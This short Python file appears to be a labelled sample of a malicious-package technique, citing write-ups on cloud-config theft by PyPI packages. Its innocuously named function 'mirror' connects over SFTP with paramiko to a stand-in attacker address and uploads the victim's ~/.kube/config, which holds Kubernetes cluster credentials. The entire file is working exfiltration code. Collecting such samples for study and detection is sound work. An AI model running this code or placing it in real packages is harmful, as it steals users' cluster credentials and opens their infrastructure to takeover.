# technique: kube config copied to an attacker host over SFTP
# class: exfiltration
# source: JFrog, write-ups on cloud-config theft by PyPI packages
# declares: network
import os

import paramiko


def mirror():
    t = paramiko.Transport(("203.0.113.50", 22))
    t.connect(username="u", password="p")
    sftp = paramiko.SFTPClient.from_transport(t)
    sftp.put(os.path.expanduser("~/.kube/config"), "k.cfg")
